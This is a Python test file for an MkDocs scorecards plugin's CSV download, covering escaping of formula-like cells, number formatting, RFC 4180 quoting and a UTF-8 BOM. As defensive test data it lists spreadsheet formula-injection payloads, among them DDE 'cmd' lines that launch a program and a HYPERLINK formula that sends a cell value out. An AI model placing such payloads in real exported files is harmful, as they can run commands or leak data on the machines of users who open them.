"""scorecards/<sc>/data.csv: a spreadsheet can open it, and nothing in it runs.

Text cells starting with = + - @, a tab or a carriage return get a leading
single quote, so no spreadsheet reads them as formulas; numbers are written
as numbers (a negative actual stays a number); quoting follows RFC 4180;
the file is UTF-8 with a BOM. The example site's CSV reads back to the
values of its scorecard.json.
"""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest
from mkdocs_scorecards.compute.results import (
    KpiPeriod,
    KpiResult,
    ObjectiveResult,
    PerspectiveResult,
    ScorecardResult,
    TargetOrigin,
    TargetSource,
)
from mkdocs_scorecards.compute.status import Band, Status
from mkdocs_scorecards.compute.trend import Trend
from mkdocs_scorecards.model import Kpi, Objective, Perspective, Place, Scorecard
from mkdocs_scorecards.periods import Period
from mkdocs_scorecards.render.csv_out import COLUMNS, number_cell, scorecard_csv, target_cell, text_cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def period(label, actual, target=None, status=Status.GREEN, score=7.0, partial=False, notes=()):
    """A period labelled `label` (only the label matters to the CSV download)."""
    return KpiPeriod(Period(0, 0, "month", label), actual, target, TargetSource(TargetOrigin.DEFINITION), 1.0,
                     Band.MET, status, score, partial, (label,), (("data/x.csv", 2),), tuple(notes))


def result_with(series: list[KpiPeriod], kpi_title="Revenue", objective_id="grow", kpi_id="rev") -> ScorecardResult:
    kpi = Kpi(kpi_id, kpi_title, "higher", Place("scorecards/x.yml", 3))
    objective = Objective(objective_id, "Grow", "financial", Place("scorecards/x.yml", 2), kpis=(kpi,))
    scorecard = Scorecard("x", "X", Place("scorecards/x.yml"), perspectives=(Perspective("financial", "Financial"),),
                          objectives=(objective,))
    kpi_result = KpiResult(kpi, series[-1], tuple(series), Trend.STEADY)
    evaluated = ObjectiveResult(objective, 7.0, Status.GREEN, Trend.STEADY, (kpi_result,), (), {})
    return ScorecardResult(scorecard, series[-1].period, None, 7.0, Status.GREEN,
                           (PerspectiveResult(scorecard.perspectives[0], 7.0, Status.GREEN, (evaluated,), {}),), (),
                           (), {})


def parse(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


# --- neutralising ----------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Click\")", "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
    "\t=1+1", "\r=1+1", "=", "-", "+", "@",
])
def test_formula_like_text_gets_a_leading_quote(text):
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Revenue", "", " =1+1", "'=1+1", "1+1", "a=b", "2026-Q1", "na=1", "%", "|x"])
def test_other_text_is_left_alone(text):
    assert text_cell(text) == text


def test_every_text_column_is_neutralised():
    hostile = "=cmd|' /C calc'!A0"
    result = result_with([period("2026-Q1", 1.0, notes=[hostile, "-2+3"])], kpi_title="@SUM(A1:A9)")
    (row,) = parse(scorecard_csv(result))
    assert row["kpi_title"] == "'@SUM(A1:A9)"
    assert row["note"] == "'" + hostile + "; -2+3"
    for column in COLUMNS:
        assert not row[column].startswith(FORMULA_START), column


# --- numbers -----------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    (-3.5, "-3.5"), (-2.0, "-2"), (0.0, "0"), (101.5, "101.5"), (358.0, "358"), (0.1 + 0.2, "0.30000000000000004"),
    (1e20, "1e+20"), (-1e-7, "-1e-07"), (12, "12"), (None, ""), (math.nan, ""), (math.inf, ""),
])
def test_numbers_stay_numbers(value, cell):
    assert number_cell(value) == cell
    if cell:
        assert float(cell) == value


def test_a_negative_actual_is_a_number_not_neutralised_text():
    result = result_with([period("2026-Q1", -3.5, target=-1.0, status="red", score=0.0),
                          period("2026-Q2", -0.25, target=(-5.0, 5.0), status="green", score=20 / 3)])
    text = scorecard_csv(result)
    rows = parse(text)
    assert [r["actual"] for r in rows] == ["-3.5", "-0.25"]
    assert [r["target"] for r in rows] == ["-1", "'-5..5"]     # an in-range target is text: low..high
    assert [r["score"] for r in rows] == ["0", "6.67"]
    assert "\r\n" + "grow,rev,Revenue,2026-Q1,-3.5,-1,red,0,false," + "\r\n" in text   # unquoted, as numbers


def test_in_range_target_cell():
    assert target_cell((95.0, 105.0)) == "95..105"
    assert target_cell((-5.0, 5.0)) == "'-5..5"
    assert target_cell(None) == ""
    assert target_cell(105.0) == "105"


# --- quoting and encoding ----------------------------------------------------------------

def test_rfc4180_quoting_round_trips():
    notes = ['comma, inside', 'quote " inside', "line\nbreak", "carriage\rreturn", "both\r\nends", "tab\tinside",
             "ünïcödé – 😀", "\u2028 separator"]
    result = result_with([period(f"2026-0{i + 1}", float(i), notes=[note]) for i, note in enumerate(notes)],
                         kpi_title='Title, with "quotes"')
    text = scorecard_csv(result)
    rows = parse(text)
    assert [r["note"] for r in rows] == notes
    assert rows[0]["kpi_title"] == 'Title, with "quotes"'
    assert '"Title, with ""quotes"""' in text
    assert '"line\nbreak"' in text and '"carriage\rreturn"' in text
    # Records end with CRLF; a bare LF or CR only ever occurs inside a quoted field.
    assert text.endswith("\r\n")
    assert text.splitlines(keepends=True)[0] == "\ufeff" + ",".join(COLUMNS) + "\r\n"


def test_the_file_is_utf8_with_a_bom():
    data = scorecard_csv(result_with([period("2026-Q1", 1.0, notes=["Zürich"])])).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Zürich" in data.decode("utf-8-sig")


# --- the example site ----------------------------------------------------------------------

SCORECARDS = ("customer-success", "engineering", "enterprise", "onboarding-team")


@pytest.mark.parametrize("sid", SCORECARDS)
def test_example_csv_reads_back_to_the_json(example_site: Path, sid):
    doc = json.loads((example_site / "scorecards" / sid / "scorecard.json").read_text(encoding="utf-8"))
    data = (example_site / "scorecards" / sid / "data.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0].keys()) == COLUMNS
    expected = [(o["id"], k["id"], k["title"], p) for o in doc["objectives"] for k in o["kpis"] for p in k["series"]]
    assert len(rows) == len(expected) > 0
    for row, (oid, kid, title, p) in zip(rows, expected):
        assert (row["objective"], row["kpi"], row["kpi_title"], row["period"]) == (oid, kid, title, p["period"])
        assert (float(row["actual"]) if row["actual"] else None) == p["actual"]
        if isinstance(p["target"], list):
            low, high = row["target"].lstrip("'").split("..")
            assert [float(low), float(high)] == p["target"]
        elif p["target"] is None:
            assert row["target"] == ""
        else:
            assert float(row["target"]) == p["target"]
        assert row["status"] == p["status"]
        assert (float(row["score"]) if row["score"] else None) == p["score"]
        assert row["partial"] == ("true" if p.get("partial") else "false")


def test_pages_link_the_csv(example_site: Path):
    """The overview links the scorecard's CSV; an objective page links its own and one per KPI, and each
    holds exactly that objective's (or KPI's) rows, with the values the JSON shows."""
    folder = example_site / "scorecards" / "enterprise"
    overview = (folder / "index.html").read_text(encoding="utf-8")
    assert '<a href="data.csv">CSV</a>' in overview
    objective = (folder / "grow-retained-revenue" / "index.html").read_text(encoding="utf-8")
    assert '<a href="data.csv">Data of this objective (CSV)</a>' in objective
    assert 'href="kpi-nrr.csv"' in objective
    rows = list(csv.DictReader(io.StringIO(
        (folder / "grow-retained-revenue" / "data.csv").read_text(encoding="utf-8-sig"))))
    assert {row["objective"] for row in rows} == {"grow-retained-revenue"} and {row["kpi"] for row in rows} == {"nrr"}
    q3 = next(row for row in rows if row["period"] == "2026-Q3")
    assert (q3["actual"], q3["target"], q3["status"]) == ("102.2", "105", "amber")
    kpi_only = (folder / "grow-retained-revenue" / "kpi-nrr.csv").read_text(encoding="utf-8-sig")
    assert kpi_only.splitlines()[0].startswith("objective,kpi,kpi_title,period,actual,target")
    assert len(kpi_only.splitlines()) == len(rows) + 1
